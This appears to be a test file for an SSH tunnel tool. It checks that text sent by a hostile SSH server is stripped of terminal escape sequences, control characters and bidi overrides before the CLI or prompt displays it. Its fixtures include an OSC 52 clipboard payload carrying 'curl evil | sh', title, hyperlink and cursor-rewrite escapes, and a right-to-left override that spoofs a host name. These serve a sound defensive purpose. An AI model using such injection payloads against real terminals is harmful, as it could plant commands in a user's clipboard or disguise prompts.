// A hostile server's text never reaches a terminal or the UI with escape sequences or control
// characters in it: keyboard-interactive name, instructions and prompts from an in-process ssh2
// server, seen by the engine's prompter and printed by the real CLI (through SSH_ASKPASS).
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { KeyboardInteractiveQuestion } from '../app/engine/prompts.js';
import { Tunnel } from '../app/engine/tunnel.js';
import { parseProfile } from '../app/profiles/validate.js';
import { stripControls } from '../app/shared/terminalText.js';
import { runCli } from './support/cli.js';
import { freePort } from './support/net.js';
import { startSsh2Server, type TestSsh2Server } from './support/ssh2Server.js';

const ESC = '\x1b';
const CLEAR = `${ESC}[2J${ESC}[H`;
const TITLE = `${ESC}]0;pwned${'\x07'}`;
const CLIPBOARD = `${ESC}]52;c;${Buffer.from('curl evil | sh').toString('base64')}${ESC}\\`;
const LINK = `${ESC}]8;;https://evil.example/${ESC}\\`;
const C1_CSI = '\x9b31m';
const NAME = `${CLEAR}Corp${TITLE} login\r`;
const INSTRUCTIONS = `${CLIPBOARD}Type your code${'\x07'}\x00\x7f.\n${LINK}Then press enter`;
const PROMPT = `${ESC}[1A${ESC}[2KPassword${C1_CSI}:${ESC}P1;2|secret${ESC}\\ `;

/** Nothing a terminal would act on: no C0 but tab and newline, no DEL, no C1. */
// eslint-disable-next-line no-control-regex -- looking for control characters is the point
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

let srv: TestSsh2Server;
let dir: string;
let known: string;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'tv-servertext-'));
  srv = await startSsh2Server((ctx) => {
    if (ctx.method !== 'keyboard-interactive') return ctx.reject(['keyboard-interactive']);
    ctx.prompt([{ prompt: PROMPT, echo: false }], NAME, INSTRUCTIONS, (answers) => (answers[0] === 'hunter2' ? ctx.accept() : ctx.reject(['keyboard-interactive'])));
  });
  known = join(dir, 'known_hosts');
  writeFileSync(known, srv.knownHostsLine());
});

afterAll(async () => {
  await srv?.dispose();
  rmSync(dir, { recursive: true, force: true });
});

describe('stripControls', () => {
  it.each([
    ['plain text stays', 'Password: ', 'Password: '],
    ['tab and newline stay', 'a\tb\nc', 'a\tb\nc'],
    ['CSI', `${ESC}[31mred${ESC}[0m`, 'red'],
    ['OSC ended by BEL', `${TITLE}x`, 'x'],
    ['OSC ended by ST', `${CLIPBOARD}x`, 'x'],
    ['an unterminated OSC eats the rest', `a${ESC}]0;title`, 'a'],
    ['DCS', `${ESC}P1;2|x${ESC}\\y`, 'y'],
    ['8-bit CSI', `${C1_CSI}z`, 'z'],
    ['8-bit OSC ended by 8-bit ST', '\x9d0;t\x9cz', 'z'],
    ['two-byte escapes', `${ESC}c${ESC}(Bz`, 'z'],
    ['a lone ESC at the end', `z${ESC}`, 'z'],
    ['CR, BEL, NUL, DEL, C1', 'a\rb\x07c\x00d\x7fe\x85f', 'abcdef'],
    ['non-ASCII text stays', 'Mot de passe ⇒ 🔑', 'Mot de passe ⇒ 🔑'],
    // Trojan Source: bidi controls reorder what is shown, so a prompt can read as something it is not.
    ['bidi embeddings and overrides (U+202A–U+202E)', 'a\u202Ab\u202Bc\u202Cd\u202De\u202Ef', 'abcdef'],
    ['bidi isolates (U+2066–U+2069)', 'a\u2066b\u2067c\u2068d\u2069e', 'abcde'],
    ['bidi marks (U+200E, U+200F, U+061C)', 'a\u200Eb\u200Fc\u061Cd', 'abcd'],
    ['a right-to-left override that flips a prompt', 'Password for \u202Emoc.knab\u202C: ', 'Password for moc.knab: '],
    ['right-to-left text itself stays', 'كلمة المرور: שלום', 'كلمة المرور: שלום'],
  ])('%s', (_what, input, output) => {
    expect(stripControls(input)).toBe(output);
  });
});

describe('server text from keyboard-interactive', () => {
  it('reaches the engine prompter (every interface) clean', async () => {
    const seen: KeyboardInteractiveQuestion[] = [];
    const parsed = parseProfile({
      id: 'kbd',
      name: 'kbd',
      server: { host: '127.0.0.1', port: srv.port, user: 'tester', auth: { method: 'keyboard-interactive' } },
      hostKey: { strict: 'yes', knownHostsFiles: [known] },
      reconnect: { enabled: false },
      forwards: [{ type: 'local', bindPort: await freePort(), targetHost: '127.0.0.1', targetPort: 1 }],
    });
    if (!parsed.ok) throw new Error(JSON.stringify(parsed.errors));
    const tunnel = new Tunnel({
      profile: parsed.value,
      prompter: {
        keyboardInteractive: async (q) => {
          seen.push(q);
          return ['hunter2'];
        },
      },
    });
    tunnel.start();
    try {
      await tunnel.whenOpen();
    } finally {
      await tunnel.stop();
    }
    expect(seen).toEqual([{ hop: `tester@127.0.0.1:${srv.port}`, name: 'Corp login', instructions: 'Type your code.\nThen press enter', prompts: [{ prompt: 'Password: ', echo: false }] }]);
  });

  it('is printed by the CLI, and handed to SSH_ASKPASS, clean', async () => {
    const askpass = join(dir, 'askpass.sh');
    const asked = join(dir, 'asked.txt');
    writeFileSync(askpass, `#!/bin/sh\nprintf '%s' "$1" > '${asked}'\necho hunter2\n`);
    chmodSync(askpass, 0o755);
    const run = runCli(['connect', '--json', '-L', `${await freePort()}:127.0.0.1:1`, '-p', String(srv.port), '-o', `UserKnownHostsFile=${known}`, '-o', 'StrictHostKeyChecking=yes', 'tester@127.0.0.1'], {
      SSH_ASKPASS: askpass,
      SSH_ASKPASS_REQUIRE: 'force',
      SSH_AUTH_SOCK: '',
      HOME: dir,
    });
    await run.waitFor((e) => e.state === 'open', 'open');
    run.proc.kill('SIGINT');
    await run.exit;
    const printed = run.stderr() + run.stdout();
    expect(printed).toContain('Corp login\n');
    expect(printed).toContain('Type your code.\nThen press enter\n');
    expect(printed).not.toMatch(CONTROL);
    expect(readFileSync(asked, 'utf8')).toBe('Password: ');
  });
});
